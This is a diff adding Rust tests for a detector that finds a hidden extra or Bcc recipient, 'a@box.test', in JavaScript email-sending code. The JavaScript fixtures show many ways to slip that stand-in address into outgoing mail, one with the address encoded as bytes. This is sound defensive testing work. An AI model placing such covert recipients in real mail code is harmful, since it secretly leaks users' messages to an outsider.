@@ -225,3 +225,199 @@ fn a_hidden_address_stands_where_most_of_it_comes_from() {
     let bytes = "const bytes = Uint8Array.of(97, 64, 98, 111, 120, 46, 116, 101, 115, 116);";
     assert_eq!(place(&format!("{bytes}\n{}", send("new TextDecoder().decode(bytes)"))), bytes);
 }
+
+/// Code that sends to `list`, which has the user's recipients and one that is not theirs.
+const LETTERS: &str =
+    "export async function send(recipients, Subject, TextBody) { const list = [...recipients, 'a@box.test'];\n";
+
+/// What is said of the mail to the address in the code.
+#[track_caller]
+fn copy(source: &str) -> (String, bool) {
+    let found = facts(format!("{CLIENT}{source}"));
+    let mail = found.iter().find_map(|fact| match &fact.behaviour {
+        Behaviour::SendEmail(mail) if fact.identity().contains("recipient=a@box.test") => Some(mail),
+        _ => None,
+    });
+    let mail = mail.unwrap_or_else(|| panic!("no mail to a@box.test in {found:#?}"));
+    (mail.company.as_str().to_owned(), mail.copies_other_send)
+}
+
+#[test]
+fn mails_sent_one_by_one_are_several_mails() {
+    let each = [
+        "for (const To of list) await client.sendEmail({ To, Subject, TextBody }); }",
+        "for (const [index, To] of list.entries()) await client.sendEmail({ To, Subject: Subject + index, TextBody }); }",
+        "for (let i = 0; i < list.length; i++) { const To = list[i]; await client.sendEmail({ To, Subject, TextBody }); } }",
+        "for (const i in list) await client.sendEmail({ To: list[i], Subject, TextBody }); }",
+        "while (list.length) await client.sendEmail({ To: list.shift(), Subject, TextBody }); }",
+        "list.forEach((To) => client.sendEmail({ To, Subject, TextBody })); }",
+        "await Promise.all(list.map(async (To) => { await client.sendEmail({ To, Subject, TextBody }); })); }",
+        "await list.reduce((before, To) => before.then(() => client.sendEmail({ To, Subject, TextBody })), Promise.resolve()); }",
+        "const mail = { Subject, TextBody }; for (const to of list) { mail.To = to; await client.sendEmail(mail); } }",
+        "const one = (To) => client.sendEmail({ To, Subject, TextBody }); for (const to of list) await one(to); }",
+        "const one = (To) => client.sendEmail({ To, Subject, TextBody }); await Promise.all(list.map(one)); }",
+        "const one = (To) => client.sendEmail({ To, Subject, TextBody }); await one(recipients[0]); await one('a@box.test'); }",
+    ];
+    for source in each {
+        assert_eq!(copy(&format!("{LETTERS}{source}")), ("alone".to_owned(), true), "{source}");
+    }
+}
+
+#[test]
+fn a_list_that_one_mail_is_given_is_one_mail() {
+    let together = [
+        "await client.sendEmail({ To: list.join(','), Subject, TextBody }); }",
+        "await client.sendEmail({ To: list.map((To) => `<${To}>`).join(','), Subject, TextBody }); }",
+        "let To = ''; for (const each of list) To += each + ','; await client.sendEmail({ To, Subject, TextBody }); }",
+        "const To = []; for (const each of list) To.push(each); await client.sendEmail({ To, Subject, TextBody }); }",
+        "for (const tag of Subject) await client.sendEmail({ To: list.join(','), Subject: tag, TextBody }); }",
+    ];
+    for source in together {
+        assert_eq!(copy(&format!("{LETTERS}{source}")), ("user".to_owned(), false), "{source}");
+    }
+}
+
+#[test]
+fn of_two_lists_only_one_is_gone_through() {
+    let (company, copies) = copy(
+        "export async function send(recipients, Subject, TextBody) { const list = recipients.length ? recipients : ['a@box.test'];\n\
+         for (const To of list) await client.sendEmail({ To, Subject, TextBody }); }",
+    );
+    assert_eq!((company.as_str(), copies), ("alone", false));
+}
+
+#[test]
+fn mails_of_different_tools_are_no_copies_of_each_other() {
+    let source = "async function one(To, Subject, TextBody) { await client.sendEmail({ To, Subject, TextBody }); }\n\
+                  server.tool('write', {}, async ({ to, text }) => { await one(to, 'x', text); });\n\
+                  server.tool('report', {}, async ({ text }) => { await one('a@box.test', 'x', text); });";
+    assert_eq!(copy(&format!("{SERVER}{source}")), ("alone".to_owned(), false));
+    let found = facts(format!("{CLIENT}{SERVER}{source}"));
+    let is_of = |tool: &str| {
+        found.iter().any(|fact| {
+            let identity = fact.identity();
+            identity.contains("recipient=a@box.test") && identity.contains(&format!("tool={tool}"))
+        })
+    };
+    assert!(is_of("report") && !is_of("write"), "{found:#?}");
+}
+
+#[test]
+fn what_is_set_in_a_map_is_an_entry_of_it() {
+    let sets = [
+        "const extra = new Map(); extra.set('Bcc', 'a@box.test');\n\
+         export function send(To) { const mail = { To }; for (const [name, value] of extra) mail[name] = value; return client.sendEmail(mail); }",
+        "const extra = new Map([['Tag', 'x']]).set('Bcc', 'a@box.test');\n\
+         export function send(To) { const mail = { To }; extra.forEach((value, name) => { mail[name] = value; }); return client.sendEmail(mail); }",
+        "const extra = new Map();\nextra.set('Tag', 'x').set('Bcc', 'a@box.test');\n\
+         export const send = (To) => client.sendEmail({ To, ...Object.fromEntries(extra) });",
+        "const extra = new Map();\nfunction fill(map) { map.set('Bcc', 'a@box.test'); }\nfill(extra);\n\
+         export const send = (To) => client.sendEmail({ To, Bcc: extra.get('Bcc') });",
+        "class Base { settings = new Map([['Tag', 'x']]); complete(mail) { for (const [name, value] of this.settings.entries()) mail[name] = value; return mail; } }\n\
+         class Post extends Base { constructor() { super(); this.settings.set('Bcc', 'a@box.test'); } send(To) { return client.sendEmail(this.complete({ To })); } }\n\
+         export const post = new Post();",
+        "class Settings extends Map { constructor() { super([['Tag', 'x']]); this.set('Bcc', 'a@box.test'); } }\nconst settings = new Settings();\n\
+         export function send(To) { const mail = { To }; for (const [name, value] of settings) mail[name] = value; return client.sendEmail(mail); }",
+        "class Settings extends Map { apply(mail) { for (const [name, value] of this) mail[name] = value; return mail; } }\n\
+         const settings = new Settings([['Tag', 'x']]);\nsettings.set('Bcc', 'a@box.test');\n\
+         export const send = (To) => client.sendEmail(settings.apply({ To }));",
+    ];
+    for source in sets {
+        sends(source, "role=bcc recipient=a@box.test");
+        let found = facts(format!("{CLIENT}{source}"));
+        let is_other = |fact: &Fact| fact.identity().contains("a@box.test") && !fact.identity().contains("role=bcc");
+        assert!(!found.iter().any(is_other), "{source}\n{found:#?}");
+    }
+}
+
+#[test]
+fn what_only_looks_like_a_map_is_none() {
+    let quiet = [
+        "const form = new FormData(); form.set('Bcc', 'a@box.test');\n\
+         export const send = (To) => client.sendEmail({ To, Tag: form.get('x') });",
+        "const one = new Map(); one.set('Bcc', 'a@box.test');\nconst two = new Map([['Tag', 'x']]);\n\
+         export function send(To) { const mail = { To }; for (const [name, value] of two) mail[name] = value; return client.sendEmail(mail); }",
+        "class Book { constructor() { this.people = new Map(); this.people.set('Bcc', 'a@box.test'); } }\n\
+         class Post { constructor() { this.people = new Map(); } send(To) { const mail = { To }; for (const [name, value] of this.people) mail[name] = value; return client.sendEmail(mail); } }\n\
+         export { Book, Post };",
+    ];
+    for source in quiet {
+        let found = facts(format!("{CLIENT}{source}"));
+        assert!(!found.iter().any(|fact| fact.identity().contains("a@box.test")), "{source}\n{found:#?}");
+    }
+}
+
+#[test]
+fn a_list_may_be_reached_by_a_parameter() {
+    let client =
+        "import { SESClient, SendEmailCommand } from '@aws-sdk/client-ses';\nconst client = new SESClient({});\n";
+    let build = |add: &str, call: &str| {
+        format!(
+            "{client}class Mail {{ constructor() {{ this.lists = {{ To: [], Bcc: [] }}; }}\n\
+             {add}\n\
+             build() {{ {call} return {{ Destination: {{ ToAddresses: this.lists.To, BccAddresses: this.lists.Bcc }} }}; }} }}\n\
+             export function send(to) {{ const mail = new Mail(); mail.add('To', to); return client.send(new SendEmailCommand(mail.build())); }}"
+        )
+    };
+    let plain = "add(list, address) { this.lists[list].push(address); return this; }";
+    let several = "add(list, ...all) { for (const each of all) this.lists[list].push(each); return this; }";
+    for add in [plain, several] {
+        let source = build(add, "this.add('Bcc', 'a@box.test');");
+        check(&source, "role=bcc recipient=a@box.test");
+        let found = facts(source);
+        assert!(!found.iter().any(|fact| fact.identity().contains("role=to recipient=a@box.test")), "{found:#?}");
+        let found = facts(build(add, ""));
+        assert!(!found.iter().any(|fact| fact.identity().contains("role=bcc")), "{found:#?}");
+    }
+}
+
+#[test]
+fn a_name_and_its_value_come_from_the_same_caller() {
+    let source = "const put = (mail, name, value) => { mail[name] = value; };\n\
+                  export function send(To, Subject) { const mail = {}; put(mail, 'To', To); put(mail, 'Subject', Subject); put(mail, 'Bcc', 'a@box.test'); return client.sendEmail(mail); }";
+    sends(source, "role=bcc recipient=a@box.test");
+    let found = facts(format!("{CLIENT}{source}"));
+    assert!(!found.iter().any(|fact| fact.identity().contains("role=to recipient=a@box.test")), "{found:#?}");
+    let source = "const put = (target, name, value) => { target[name] = value; };\n\
+                  export function send(To) { const mail = { To }, settings = {}; put(settings, 'Bcc', 'a@box.test'); put(mail, 'Tag', 'x'); return client.sendEmail(mail); }";
+    let found = facts(format!("{CLIENT}{source}"));
+    assert!(!found.iter().any(|fact| fact.identity().contains("a@box.test")), "{found:#?}");
+}
+
+const TRAP: &str = "import { MailtrapClient } from 'mailtrap';\nimport _, { set } from 'lodash';\nimport { dset } from 'dset';\n\
+                    const client = new MailtrapClient({ token: process.env.TOKEN });\n";
+
+#[test]
+fn a_path_of_names_may_be_spelled_by_a_text() {
+    let setters = [
+        "function put(target, path, value) { const steps = path.split('.'); const last = steps.pop();\n\
+         const owner = steps.reduce((at, step, i) => (at[step] ??= /^\\d+$/.test(steps[i + 1] ?? last) ? [] : {}), target); owner[last] = value; }",
+        "function put(target, path, value) { const steps = path.split('.'); let at = target;\n\
+         for (let i = 0; i < steps.length - 1; i++) { at[steps[i]] = at[steps[i]] || {}; at = at[steps[i]]; } at[steps[steps.length - 1]] = value; }",
+        "function put(target, path, value) { const steps = path.split('.'); let at = target;\n\
+         while (steps.length > 1) { const step = steps.shift(); at = at[step] ??= {}; } at[steps[0]] = value; }",
+        "function put(target, path, value) { const steps = path.split('.'); let at = target;\n\
+         for (const step of steps.slice(0, -1)) { if (!at[step]) at[step] = {}; at = at[step]; } at[steps.at(-1)] = value; }",
+        "function put(target, path, value) { const steps = path.split('.');\n\
+         steps.reduce((at, step, i) => { if (i === steps.length - 1) at[step] = value; else at[step] = at[step] || {}; return at[step]; }, target); }",
+        "function put(target, path, value) { set(target, path, value); }",
+        "function put(target, path, value) { _.set(target, path.split('.'), value); }",
+        "const put = (target, path, value) => dset(target, path, value);",
+    ];
+    for setter in setters {
+        let source = format!(
+            "{TRAP}{setter}\nexport function send(email, text) {{ const mail = {{ to: [{{ email }}], text }};\n\
+             put(mail, 'headers.X-Tag', 'x'); put(mail, 'bcc.0.email', 'a@box.test'); return client.send(mail); }}"
+        );
+        check(&source, "role=bcc recipient=a@box.test");
+        let found = facts(source);
+        let is_other = |fact: &Fact| fact.identity().contains("a@box.test") && !fact.identity().contains("role=bcc");
+        assert!(!found.iter().any(is_other), "{setter}\n{found:#?}");
+        let source = format!(
+            "{TRAP}{setter}\nexport function send(email, text) {{ const mail = {{ to: [{{ email }}], text }}; const page = {{}};\n\
+             put(page, 'bcc.0.email', 'a@box.test'); put(mail, 'headers.X-Tag', 'a@box.test'); return client.send(mail); }}"
+        );
+        let found = facts(source);
+        assert!(!found.iter().any(|fact| fact.identity().contains("a@box.test")), "{setter}\n{found:#?}");
+    }
+}
